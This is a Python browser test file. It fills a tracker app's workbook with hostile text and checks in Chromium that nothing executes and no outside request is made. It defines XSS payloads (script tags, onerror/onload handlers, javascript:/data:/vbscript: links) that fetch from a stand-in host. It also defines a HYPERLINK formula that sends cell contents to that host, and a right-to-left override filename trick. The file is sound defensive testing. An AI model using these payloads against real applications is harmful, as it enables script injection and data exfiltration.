"""A workbook in which every text means harm, each page of it in Chromium: nothing runs, nothing leaves."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from browser import ROOT, Shown, note_outside, served
from openpyxl.worksheet.worksheet import Worksheet

import tracker
from tracker.schema import TABLES
from tracker.web.common.shown import code, note, plain
from tracker.web.pages import PAGES

OVERRIDE = "\u202e"
SCRIPT = "document.title='RAN';alert(1);fetch('https://elsewhere.example/js')"
ELSEWHERE = "https://elsewhere.example"
HARM = (
    f'<script>{SCRIPT}</script><img src=x onerror="{SCRIPT}"><iframe src={ELSEWHERE}/f></iframe> '
    f"[click](javascript:{SCRIPT}) [data](data:text/html,<script>{SCRIPT}</script>) ![p]({ELSEWHERE}/p.png) "
    f'[![q]({ELSEWHERE}/q.png)](vbscript:x) <svg onload="{SCRIPT}"> :red[x] $\\href{{javascript:{SCRIPT}}}{{y}}$ '
    f":material/delete: `{SCRIPT}` invoice{OVERRIDE}fdp.exe\n# heading\n\n```html\n{SCRIPT}"
)
FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1, "click")'
HUGE = "W" * 32_000


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A registry in which a person wrote harm into every cell that holds text and is no key or choice."""
    folder = tmp_path_factory.mktemp("hostile")
    path = Path(shutil.copyfile(ROOT / "templates" / "general.xlsx", folder / "registry.xlsx"))
    (folder / "train.csv").write_text(f"a,b\n{FORMULA.replace(',', ';')},1\n")
    for name in (HARM, FORMULA, HUGE):
        with tracker.start_run(path, experiment=HARM, name=name, tags={"team": HARM}) as run:
            run.log_params({"depth": 3, "text": HARM})
            run.log_metric("auc", 0.8)
            run.log_metric("<img src=x onerror=alert(1)>", 1.0)
            run.log_artifact(folder / "train.csv", name="churn-train", category="model")
    book = openpyxl.load_workbook(path)
    for sheet in book:
        for table in sheet.tables.values():
            _fill(sheet, table.displayName, table.ref)
    book.save(path)
    return path


def _fill(sheet: Worksheet, name: str, area: str) -> None:
    """Harm in every cell of a table that may hold any text."""
    declared = TABLES.get(name)
    if declared is None or name == "settings":
        return
    header, *rows = sheet[area]
    for place, title in enumerate(header):
        column = declared.column(str(title.value))
        free = column is None or (column.kind in ("text", "any") and not column.choices)
        if not free or (
            column and (column.name in declared.key or column.name in ("name", "run_id", "sha256", "path"))
        ):
            continue
        for number, row in enumerate(rows):
            if any(cell.value is not None for cell in row):
                row[place].value = (HARM, FORMULA, HUGE)[number % 3]
                row[place].data_type = "s"  # else openpyxl would make formulas of texts that begin as one


@pytest.fixture(scope="module")
def app(chromium: Any, hostile: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Shown]:
    with served(hostile, tmp_path_factory.mktemp("served")) as (url, _):
        page = chromium.new_page(viewport={"width": 1400, "height": 900})
        page.goto(url)
        page.wait_for_selector(".st-key-head", timeout=90_000)
        outside: list[str] = []
        page.on("request", lambda request: note_outside(request.url, outside))
        page.on("dialog", lambda dialog: (outside.append(f"dialog {dialog.message}"), dialog.dismiss()))
        yield Shown(page, hostile, url, outside)
        page.close()


@pytest.mark.browser
@pytest.mark.parametrize("address", [page.address for page in PAGES])
def test_nothing_in_a_hostile_workbook_does_anything(app: Shown, address: str) -> None:
    app.outside.clear()
    app.open(f"/{address}")
    app.page.wait_for_timeout(300)
    app.idle()
    assert app.page.title() != "RAN" and app.outside == []
    found = app.page.evaluate(
        """override => {
            const bad = [];
            for (const link of document.querySelectorAll('a[href], area[href], form[action]')) {
                const to = link.getAttribute('href') ?? link.getAttribute('action');
                if (/^\\s*(javascript|data|vbscript):/i.test(to)) bad.push('link ' + to);
            }
            for (const one of document.querySelectorAll('[data-testid=stMain] :is(script, iframe, object, embed)'))
                bad.push(one.outerHTML.slice(0, 200));
            for (const one of document.querySelectorAll('[onerror], [onload], img[src^=http]:not([src*="127.0.0.1"])'))
                bad.push(one.outerHTML.slice(0, 200));
            const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
            while (texts.nextNode())
                if (texts.currentNode.data.includes(override)
                    && texts.currentNode.parentElement.closest('[data-testid=stMarkdownContainer]'))
                    bad.push('override in ' + texts.currentNode.data.slice(0, 100));
            if (document.documentElement.scrollWidth > window.innerWidth + 2) bad.push('wider than the window');
            return bad;
        }""",
        OVERRIDE,
    )
    assert found == []
    if address == "run":
        assert app.page.get_by_text("[U+202E]fdp.exe").count(), "it is shown, by the sign's name"
        assert app.page.locator("[data-testid=stMain] [aria-label='delete icon']").count() == 0


@pytest.mark.parametrize("shown", [plain, code, note])
def test_a_sign_that_turns_text_around_is_shown_as_its_name(shown: Any) -> None:
    said = shown(f"invoice{OVERRIDE}fdp.exe").replace("\\", "")
    assert OVERRIDE not in said and "[U+202E]fdp.exe" in said
